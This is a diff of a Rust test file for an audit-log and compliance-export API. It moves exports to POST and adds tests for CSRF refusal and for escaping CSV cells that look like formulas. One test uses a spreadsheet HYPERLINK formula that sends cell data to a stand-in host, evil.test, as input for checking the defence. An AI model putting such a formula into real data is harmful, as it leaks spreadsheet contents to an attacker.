@@ -10,6 +10,8 @@ both_backends!(
     the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only,
     retention_over_the_api_refuses_bad_values_and_changes_nothing,
     compliance_exports_download_as_zips_of_json_lines,
+    exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_nothing,
+    audit_csv_cells_that_start_like_a_formula_come_out_as_text,
     the_console_shows_the_log_and_the_data_tab_and_refuses_members,
 );
 
@@ -74,14 +76,8 @@ async fn the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only
     assert!(second["next_before"].is_null());
 
     let csv_download = admin
-        .client
-        .get(api(
-            &server,
-            "/audit/export?format=csv&action=retention.set",
-        ))
-        .send()
-        .await
-        .unwrap();
+        .post("/audit/export?format=csv&action=retention.set")
+        .await;
     assert_eq!(csv_download.status(), 200);
     assert!(content_type(&csv_download).starts_with("text/csv"));
     let body = csv_download.bytes().await.unwrap();
@@ -91,7 +87,7 @@ async fn the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only
     assert_eq!(rows.len(), 3);
     assert!(rows.iter().all(|row| &row[5] == "retention.set"));
 
-    let lines_download = admin.get("/audit/export?format=jsonl").await;
+    let lines_download = admin.post("/audit/export?format=jsonl").await;
     assert_eq!(lines_download.status(), 200);
     assert!(content_type(&lines_download).starts_with("application/jsonl"));
     let text = lines_download.text().await.unwrap();
@@ -112,7 +108,6 @@ async fn the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only
     );
 
     for bad in [
-        "/audit/export?format=xml",
         "/audit?action=user.teleported",
         "/audit?from=yesterday",
         "/audit?limit=0",
@@ -120,12 +115,14 @@ async fn the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only
         let (status, code, _, _) = error_of(admin.get(bad).await).await;
         assert_eq!((status, code.as_str()), (422, "invalid_input"), "{bad}");
     }
+    let (status, code, _, _) = error_of(admin.post("/audit/export?format=xml").await).await;
+    assert_eq!((status, code.as_str()), (422, "invalid_input"));
 
     let member = server.signed_in("ana@acme.test").await;
-    for path in ["/audit", "/audit/export?format=csv"] {
-        let (status, _, _, _) = error_of(member.get(path).await).await;
-        assert_eq!(status, 403, "{path}");
-    }
+    let (status, _, _, _) = error_of(member.get("/audit").await).await;
+    assert_eq!(status, 403);
+    let (status, _, _, _) = error_of(member.post("/audit/export?format=csv").await).await;
+    assert_eq!(status, 403);
     let exported: Value = admin
         .get("/audit?action=audit.exported")
         .await
@@ -246,7 +243,7 @@ async fn compliance_exports_download_as_zips_of_json_lines(db: TestDb) {
     assert_eq!(posted.status(), 201);
 
     let officer = server.signed_in("cora@acme.test").await;
-    let network = officer.get("/exports/network").await;
+    let network = officer.post("/exports/network").await;
     assert_eq!(network.status(), 200);
     assert_eq!(content_type(&network), "application/zip");
     let disposition = network.headers()["content-disposition"]
@@ -266,23 +263,23 @@ async fn compliance_exports_download_as_zips_of_json_lines(db: TestDb) {
     assert_eq!(files["users.jsonl"].len(), 3);
     assert_eq!(files["posts.jsonl"][0]["body_markdown"], "For the record");
 
-    let person = officer.get(&format!("/exports/users/{}", ana.id)).await;
+    let person = officer.post(&format!("/exports/users/{}", ana.id)).await;
     assert_eq!(person.status(), 200);
     let files = hearth_testkit::unzip_json_lines(&person.bytes().await.unwrap());
     assert_eq!(files["users.jsonl"].len(), 1);
     assert_eq!(files["users.jsonl"][0]["email"], "ana@acme.test");
     assert_eq!(files["posts.jsonl"].len(), 1);
 
-    let (status, code, message, _) = error_of(officer.get("/exports/users/424242").await).await;
+    let (status, code, message, _) = error_of(officer.post("/exports/users/424242").await).await;
     assert_eq!((status, code.as_str()), (404, "not_found"));
     assert!(message.contains("user"), "{message}");
-    let (status, _, _, _) = error_of(officer.get("/exports/users/ana").await).await;
+    let (status, _, _, _) = error_of(officer.post("/exports/users/ana").await).await;
     assert_eq!(status, 400);
     for path in [
         "/exports/network".to_owned(),
         format!("/exports/users/{}", ana.id),
     ] {
-        let (status, _, _, _) = error_of(member.get(&path).await).await;
+        let (status, _, _, _) = error_of(member.post(&path).await).await;
         assert_eq!(status, 403, "{path}");
     }
 
@@ -298,6 +295,99 @@ async fn compliance_exports_download_as_zips_of_json_lines(db: TestDb) {
         1
     );
     assert_eq!(actions.iter().filter(|a| **a == "user.exported").count(), 1);
+    server.stop().await;
+}
+
+/// A top-level cross-site navigation is a `GET` carrying the session cookie; it must
+/// neither run an export nor write to the audit log.
+async fn exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_nothing(
+    db: TestDb,
+) {
+    let server = Server::start(db).await;
+    server.user("cora@acme.test", Role::Admin).await;
+    let ana = server.user("ana@acme.test", Role::Member).await;
+    let admin = server.signed_in("cora@acme.test").await;
+    let paths = [
+        "/exports/network".to_owned(),
+        format!("/exports/users/{}", ana.id),
+        "/audit/export?format=csv".to_owned(),
+    ];
+    for path in &paths {
+        let (status, code, _, _) = error_of(admin.get(path).await).await;
+        assert_eq!(
+            (status, code.as_str()),
+            (405, "method_not_allowed"),
+            "{path}"
+        );
+        let without_csrf = admin.client.post(api(&server, path)).send().await.unwrap();
+        let (status, code, _, _) = error_of(without_csrf).await;
+        assert_eq!((status, code.as_str()), (403, "csrf_failed"), "{path}");
+    }
+    let log: Value = admin.get("/audit").await.json().await.unwrap();
+    let exported = log["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["action"].as_str().unwrap().ends_with(".exported"))
+        .count();
+    assert_eq!(exported, 0, "{log}");
+
+    for path in &paths {
+        assert_eq!(admin.post(path).await.status(), 200, "{path}");
+    }
+    let log: Value = admin.get("/audit").await.json().await.unwrap();
+    let exported = log["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["action"].as_str().unwrap().ends_with(".exported"))
+        .count();
+    assert_eq!(exported, 3, "{log}");
+    server.stop().await;
+}
+
+/// A reason anyone with a say in it could type must not run as a formula in the
+/// spreadsheet of the admin who opens the export; the JSON lines keep it exactly.
+async fn audit_csv_cells_that_start_like_a_formula_come_out_as_text(db: TestDb) {
+    let server = Server::start(db).await;
+    server.user("cora@acme.test", Role::Admin).await;
+    let ana = server.user("ana@acme.test", Role::Member).await;
+    let admin = server.signed_in("cora@acme.test").await;
+    let reason = "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")";
+    let deactivated = admin
+        .post_json(
+            &format!("/users/{}/deactivate", ana.id),
+            &json!({ "reason": reason }),
+        )
+        .await;
+    assert_eq!(deactivated.status(), 200);
+
+    let csv_download = admin
+        .post("/audit/export?format=csv&action=user.deactivated")
+        .await;
+    assert_eq!(csv_download.status(), 200);
+    let body = csv_download.bytes().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_ref());
+    assert_eq!(&reader.headers().unwrap()[9], "reason");
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][9], format!("'{reason}"));
+    assert!(
+        rows[0]
+            .iter()
+            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "{:?}",
+        rows[0]
+    );
+
+    let lines = admin
+        .post("/audit/export?format=jsonl&action=user.deactivated")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let entry: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
+    assert_eq!(entry["reason"], reason);
     server.stop().await;
 }
 
